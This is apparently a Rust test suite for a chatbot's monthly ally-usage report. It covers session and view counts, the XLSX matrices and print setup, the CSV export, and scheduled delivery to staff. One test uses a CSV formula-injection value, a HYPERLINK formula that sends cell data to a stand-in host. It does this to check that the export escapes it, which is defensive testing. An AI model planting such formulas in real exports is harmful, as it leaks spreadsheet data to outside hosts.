//! The monthly usage report (seed 003): a scripted month of two allies and
//! one staff member, counted per ally access, written as the two matrices in XLSX and
//! sent once to UAC on the month's first business day.

use chrono::{DateTime, Duration, NaiveDate, Utc};
use contigo_bot::app::App;
use contigo_bot::clock::Clock;
use contigo_bot::demo::Place;
use contigo_bot::domain::stage::Role;
use contigo_bot::message::{ChatRef, Inbound};
use sqlx::Row;

use crate::backends;
use crate::padron::{access, load_padron, whatsapp};
use crate::support::engine::telegram;
use crate::support::engine::turn;
use crate::support::reads::outbox_payloads;
use crate::support::xlsx::read_xlsx;
use crate::support::{Backend, TestDb, add_staff, settings};

/// Lima is UTC-5.
fn lima(s: &str) -> DateTime<Utc> {
    format!("{s}-05:00").parse().expect("instant")
}

fn october() -> NaiveDate {
    NaiveDate::from_ymd_opt(2026, 10, 1).expect("date")
}

/// The app on 1 October 2026 with the padrón loaded.
async fn october_app(db: &TestDb) -> App {
    let app = App::build(
        settings(db, None),
        Clock::fixed(lima("2026-10-01T08:00:00")),
    )
    .await
    .expect("app");
    load_padron(&app.store, db).await;
    app
}

/// One user action at `at`, a minute apart from the next.
async fn act(app: &App, chat: &ChatRef, input: Inbound) {
    turn(app, chat, input).await;
    app.clock.advance(Duration::minutes(1));
}

async fn scripted_month(app: &App) {
    let clock = &app.clock;
    // Acoria (Gobierno Local): two sessions, a query and a download in the first, the
    // minors query in the second.
    let local = whatsapp("51987650001");
    clock.set(lima("2026-10-05T10:00:00"));
    act(app, &local, Inbound::Text("/padron".into())).await;
    act(app, &local, Inbound::Choice("al:q:vigentes".into())).await;
    act(app, &local, Inbound::Choice("al:dl:vigentes".into())).await;
    clock.set(lima("2026-10-20T16:30:00"));
    act(app, &local, Inbound::Text("/padron".into())).await;
    act(app, &local, Inbound::Choice("al:q:menores".into())).await;
    // Huancavelica (Gobierno Regional): one session of a single interaction.
    let regional = whatsapp("51987650002");
    clock.set(lima("2026-10-06T09:00:00"));
    act(app, &regional, Inbound::Text("/padron".into())).await;
    // A UAC member works from their chat: staff, never an ally.
    let staff = telegram("9101");
    clock.set(lima("2026-10-07T11:00:00"));
    act(app, &staff, Inbound::Text("/bandeja".into())).await;
    act(app, &staff, Inbound::Text("/padron".into())).await;
    // November's activity is not October's.
    clock.set(lima("2026-11-01T10:00:00"));
    act(app, &local, Inbound::Text("/padron".into())).await;
}

async fn usage_report_counts_each_ally_access_and_never_staff(backend: Backend) {
    let db = TestDb::new(backend).await;
    let app = october_app(&db).await;
    let acoria = access(&app, Place::District("090103"), "987650001").await;
    let region = access(&app, Place::Region("09"), "987650002").await;
    let entity = access(
        &app,
        Place::Entity("Asociación Ficticia de Prueba"),
        "987650004",
    )
    .await;
    add_staff(&app, "Ana", &[Role::Uac], 9101).await;
    scripted_month(&app).await;

    let mut conn = app.store.pool.acquire().await.expect("conn");
    let november = NaiveDate::from_ymd_opt(2026, 11, 5).expect("date");
    let report = contigo_bot::services::reports::usage(&mut conn, october(), november)
        .await
        .expect("report");
    drop(conn);
    let codes: Vec<&str> = report.accesses.iter().map(|u| u.code.as_str()).collect();
    assert_eq!(codes, [&acoria.code, &region.code, &entity.code]);

    let local = &report.accesses[0];
    assert_eq!(
        (
            local.ubigeo.as_str(),
            local.region.as_str(),
            local.district.as_str()
        ),
        ("090103", "Huancavelica", "Acoria")
    );
    assert_eq!(local.sessions, 2);
    assert_eq!(local.downloads, 1);
    assert_eq!(local.queries.get("vigentes"), Some(&1));
    assert_eq!(local.queries.get("menores"), Some(&1));
    assert_eq!(local.queries.get("suspendidos"), None);
    // Answers: menu, vigentes, the download; then menu, menores.
    assert_eq!(local.views, 5);
    assert_eq!(local.unique_views, 5);
    // Sessions of 2 minutes and 1 minute.
    assert_eq!(local.average_session_secs, 90);
    assert_eq!(local.bounce_pct, 0.0);
    assert_eq!(local.exit_pct, 40.0);
    assert_eq!(
        local.last_connection.map(|t| t.to_string()).as_deref(),
        Some("2026-10-20 16:31:00")
    );

    let regional = &report.accesses[1];
    assert_eq!(
        (regional.ubigeo.as_str(), regional.region.as_str()),
        ("09", "Huancavelica")
    );
    assert_eq!((regional.sessions, regional.views), (1, 1));
    assert_eq!((regional.bounce_pct, regional.exit_pct), (100.0, 100.0));

    let other = &report.accesses[2];
    assert_eq!(other.entity, "Asociación Ficticia de Prueba");
    assert_eq!(
        (other.sessions, other.views, other.region.as_str()),
        (0, 0, "")
    );

    // The workbook: the two matrices of seed 003, sessions by region with a chart,
    // exits by page.
    let doc = contigo_bot::services::reports::usage_document(&app.engine.locales, "es", &report);
    let sheets = read_xlsx(&doc.to_xlsx().expect("xlsx"));
    let names: Vec<&str> = sheets.iter().map(|s| s.name.as_str()).collect();
    assert_eq!(
        names,
        [
            "Gobiernos Locales y Regionales",
            "Otros Aliados",
            "Ingresos por región",
            "Salidas por menú",
            "Lecciones"
        ]
    );
    let gov = &sheets[0];
    assert!(gov.notes[0].contains("10/2026"), "{:?}", gov.notes);
    assert!(
        gov.notes[0].contains("Datos al 31/10/2026"),
        "{:?}",
        gov.notes
    );
    assert!(gov.notes[1].contains("Ley 29733"), "{:?}", gov.notes);
    for column in [
        "Ubigeo",
        "Región",
        "Provincia",
        "Distrito",
        "Número de ingresos",
        "Número de descargas realizadas",
        "Usos del botón total de usuarios vigentes",
        "Usos del botón total de suspendidos",
        "Usos del botón total de desafiliados",
        "Usos del botón menores sin autorización",
        "Total de solicitudes remitidas",
        "Fecha y hora de última conexión",
        "Promedio de tiempo (h:mm:ss)",
        "Vistas de página",
        "Vistas de página únicas",
        "Porcentaje de rebote",
        "Porcentaje de salidas",
    ] {
        gov.col(column);
    }
    assert_eq!(gov.rows.len(), 2);
    assert_eq!(gov.text(0, "Ubigeo"), "090103");
    assert_eq!(gov.text(0, "Número de ingresos"), "2");
    assert_eq!(gov.text(0, "Promedio de tiempo (h:mm:ss)"), "0:01:30");
    assert_eq!(
        gov.text(0, "Fecha y hora de última conexión"),
        "2026-10-20 16:31"
    );
    assert_eq!(gov.text(1, "Ubigeo"), "09");
    let others = &sheets[1];
    assert!(
        !others.header.iter().any(|h| h.contains("menores")),
        "{:?}",
        others.header
    );
    assert_eq!(others.text(0, "Entidad"), "Asociación Ficticia de Prueba");
    let regions = sheets[2].texts();
    assert_eq!(
        regions,
        [
            vec!["Huancavelica".to_owned(), "3".to_owned()],
            vec!["Otros aliados (nacional)".to_owned(), "0".to_owned()]
        ]
    );
    app.store.close().await;
}

/// One part of an XLSX (a zip of XML files), as text.
pub(crate) fn xlsx_part(xlsx: &[u8], part: &str) -> String {
    use std::io::Read;
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(xlsx)).expect("an XLSX is a zip");
    let mut out = String::new();
    zip.by_name(part)
        .unwrap_or_else(|e| panic!("no {part}: {e}"))
        .read_to_string(&mut out)
        .expect("utf-8 XML");
    out
}

/// Every sheet of an XLSX prints on A4 across one page's width (as many pages down
/// as it needs), the rows down to the header repeated on each page, the title in the
/// page header; `landscape`: which sheets (1-based) print landscape.
pub(crate) fn assert_prints_well(xlsx: &[u8], title: &str, landscape: &[usize]) {
    let book = xlsx_part(xlsx, "xl/workbook.xml");
    let sheets = book.matches("<sheet ").count();
    assert!(sheets > 0, "{book}");
    for n in 1..=sheets {
        let xml = xlsx_part(xlsx, &format!("xl/worksheets/sheet{n}.xml"));
        assert!(
            xml.contains(r#"<pageSetUpPr fitToPage="1"/>"#),
            "sheet {n} fits to the page: {xml}"
        );
        let setup = xml
            .split("<pageSetup")
            .nth(1)
            .and_then(|s| s.split("/>").next())
            .unwrap_or_else(|| panic!("sheet {n} has a print setup: {xml}"));
        assert!(setup.contains(r#"paperSize="9""#), "A4: {setup}");
        assert!(
            setup.contains(r#"fitToHeight="0""#),
            "pages down as needed: {setup}"
        );
        assert_eq!(
            setup.contains(r#"orientation="landscape""#),
            landscape.contains(&n),
            "sheet {n}'s orientation: {setup}"
        );
        assert!(
            xml.contains("<oddHeader>&amp;C") && xml.contains(title),
            "sheet {n} carries the title on each page: {xml}"
        );
        assert!(
            xml.contains("<oddFooter>&amp;C&amp;P / &amp;N"),
            "page numbers: {xml}"
        );
    }
    // The notes and the header row, repeated on each printed page.
    assert_eq!(
        book.matches(r#"name="_xlnm.Print_Titles""#).count(),
        sheets,
        "{book}"
    );
}

/// What a person opens reads right: figures as of the day the report was made while
/// the month runs, page and access-type names instead of codes, a print setup on
/// every sheet, and an entity name a spreadsheet would run as a formula written as
/// text in the CSV.
async fn usage_report_reads_prints_and_opens_safely(backend: Backend) {
    let db = TestDb::new(backend).await;
    let app = october_app(&db).await;
    access(&app, Place::District("090103"), "987650001").await;
    let trap = r#"=HYPERLINK("http://x.example/?"&A1,"ver")"#;
    access(&app, Place::Entity(trap), "987650004").await;
    scripted_month(&app).await;

    let mut conn = app.store.pool.acquire().await.expect("conn");
    let mid_month = NaiveDate::from_ymd_opt(2026, 10, 25).expect("date");
    let report = contigo_bot::services::reports::usage(&mut conn, october(), mid_month)
        .await
        .expect("report");
    drop(conn);
    let locales = &app.engine.locales;
    let xlsx = contigo_bot::services::reports::usage_document(locales, "es", &report)
        .to_xlsx()
        .expect("xlsx");
    let sheets = read_xlsx(&xlsx);
    assert!(
        sheets[0].notes[0].contains("Datos al 25/10/2026"),
        "{:?}",
        sheets[0].notes
    );
    let exits: Vec<String> = sheets[3]
        .texts()
        .into_iter()
        .map(|r| r[0].clone())
        .collect();
    for page in [
        "Menú principal",
        "Usuarios vigentes",
        "Descarga de una lista",
    ] {
        assert!(exits.iter().any(|p| p == page), "{page} in {exits:?}");
    }
    for code in ["menu", "vigentes", "descarga", "otro"] {
        assert!(!exits.iter().any(|p| p == code), "{code} in {exits:?}");
    }
    // The two matrices are wide; the two short tables fit a portrait page.
    assert_prints_well(&xlsx, "Reporte de uso de aliados, 10/2026", &[1, 2]);

    let csv = contigo_bot::services::reports::usage_csv(locales, "es", &report).to_csv();
    let mut reader = csv::Reader::from_reader(csv.as_slice());
    let header = reader.headers().expect("header").clone();
    let col = |name: &str| header.iter().position(|h| h == name).expect(name);
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("row")).collect();
    let kinds: Vec<&str> = rows.iter().map(|r| &r[col("Tipo de acceso")]).collect();
    assert_eq!(kinds, ["Gobierno Local", "Otro Aliado"]);
    assert_eq!(&rows[1][col("Entidad")], format!("'{trap}"));
    app.store.close().await;
}

async fn uac_gets_the_usage_report_once_on_the_first_business_day(backend: Backend) {
    let db = TestDb::new(backend).await;
    let clock = Clock::fixed(lima("2026-10-01T08:00:00"));
    let app = App::build(settings(&db, None), clock.clone())
        .await
        .expect("app");
    // A second replica on the same database.
    let replica = App::build(settings(&db, None), clock.clone())
        .await
        .expect("replica");
    load_padron(&app.store, &db).await;
    access(&app, Place::District("090103"), "987650001").await;
    access(&app, Place::Region("09"), "987650002").await;
    add_staff(&app, "Ana", &[Role::Uac], 9101).await;
    scripted_month(&app).await;
    let sent_docs = |payloads: Vec<String>| {
        payloads
            .into_iter()
            .filter(|p| p.contains("uso-aliados-2026-10.xlsx"))
            .collect::<Vec<_>>()
    };

    // Sunday 1 November is no business day; Monday the 2nd before 08:00 is too early.
    clock.set(lima("2026-11-01T12:00:00"));
    assert_eq!(app.scheduler().tick().await.expect("tick").usage_reports, 0);
    clock.set(lima("2026-11-02T07:30:00"));
    assert_eq!(app.scheduler().tick().await.expect("tick").usage_reports, 0);
    assert!(sent_docs(outbox_payloads(&app, "telegram", "9101").await).is_empty());

    // From 08:00 on the first business day: once, whichever replica ticks.
    clock.set(lima("2026-11-02T08:05:00"));
    let (one, two) = (app.scheduler(), replica.scheduler());
    let (a, b) = tokio::join!(one.tick(), two.tick());
    let sent = a.expect("tick").usage_reports + b.expect("tick").usage_reports;
    assert_eq!(sent, 1);
    clock.set(lima("2026-11-03T09:00:00"));
    assert_eq!(app.scheduler().tick().await.expect("tick").usage_reports, 0);
    let docs = sent_docs(outbox_payloads(&app, "telegram", "9101").await);
    assert_eq!(docs.len(), 1, "{docs:?}");
    assert!(docs[0].contains("Reporte mensual de uso"), "{}", docs[0]);
    assert!(docs[0].contains("2 accesos"), "{}", docs[0]);
    // The attached file is the month's workbook.
    let payload: serde_json::Value = serde_json::from_str(&docs[0]).expect("json");
    let sha = payload["sha256"].as_str().expect("sha");
    let sheets = read_xlsx(&app.files.get(sha).await.expect("file"));
    assert_eq!(sheets[0].rows.len(), 2);
    assert_eq!(sheets[0].text(0, "Número de ingresos"), "2");
    replica.store.close().await;
    app.store.close().await;
}

/// A turn writes one usage row (issue 29): the message and the page its answer
/// showed together, the session known by its first turn's row; only what a turn
/// counts besides (a query, a download) adds a row.
async fn a_turn_writes_one_usage_row(backend: Backend) {
    let db = TestDb::new(backend).await;
    let app = App::build(
        settings(&db, None),
        Clock::fixed(lima("2026-10-01T08:00:00")),
    )
    .await
    .expect("app");
    load_padron(&app.store, &db).await;
    access(&app, Place::District("090103"), "987650001").await;
    access(&app, Place::Region("09"), "987650002").await;
    let count = |sql: &'static str| {
        let pool = app.store.pool.clone();
        async move {
            sqlx::query(sql)
                .fetch_one(&pool)
                .await
                .expect("count")
                .get::<i64, _>(0)
        }
    };
    const ROWS: &str = "SELECT COUNT(*) FROM usage_events";
    const TURNS: &str = "SELECT COUNT(*) FROM usage_events WHERE kind = 'message'";
    const EXTRA: &str =
        "SELECT COUNT(*) FROM usage_events WHERE kind NOT IN ('message', 'session_start', 'view')";
    let before = (count(ROWS).await, count(TURNS).await, count(EXTRA).await);
    scripted_month(&app).await;
    let rows = count(ROWS).await - before.0;
    let turns = count(TURNS).await - before.1;
    let extra = count(EXTRA).await - before.2;
    println!("{turns} turns wrote {rows} usage rows, {extra} of them queries and downloads");
    assert!(turns >= 8, "{turns} turns");
    assert_eq!(
        rows,
        turns + extra,
        "one row per turn, plus what it counted"
    );
    assert_eq!(
        count("SELECT COUNT(*) FROM usage_events WHERE kind IN ('session_start', 'view')").await,
        0
    );
    assert!(
        count("SELECT COUNT(*) FROM usage_events WHERE kind = 'message' AND detail IS NOT NULL")
            .await
            > 0,
        "the page shown rides on the turn's row"
    );
}

backends!(
    a_turn_writes_one_usage_row,
    usage_report_counts_each_ally_access_and_never_staff,
    uac_gets_the_usage_report_once_on_the_first_business_day,
    usage_report_reads_prints_and_opens_safely
);
